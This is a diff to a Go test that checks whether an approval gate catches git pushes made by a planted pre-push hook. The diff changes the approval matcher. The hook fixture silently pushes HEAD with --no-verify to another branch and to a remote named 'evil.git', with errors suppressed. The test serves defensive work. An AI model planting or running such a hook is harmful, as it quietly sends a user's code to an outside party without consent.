@@ -126,7 +126,7 @@ func TestHookThatPushes(t *testing.T) {
 	must(t, os.WriteFile(filepath.Join(x.ws, ".git", "hooks", "pre-push"), []byte("#!/bin/sh\n"+
 		"git push --no-verify origin HEAD:refs/heads/other 2>/dev/null\ngit push --no-verify "+s.url("evil.git")+" HEAD:main 2>/dev/null\nexit 0\n"), 0o755))
 	x.answer = func(q approval.Question) approval.Answer {
-		return approval.Answer{Approved: !sends(q) || strings.HasPrefix(q.Message, "git would push main ") && strings.HasSuffix(q.Message, s.url("shop.git"))}
+		return approval.Answer{Approved: !sends(q) || strings.HasPrefix(q.Message, "git would push main ") && strings.Contains(q.Message+";", s.url("shop.git")+";")}
 	}
 	x.open().sh("git commit -q --allow-empty -m mine && git push origin main")
 	asked := x.pushes()
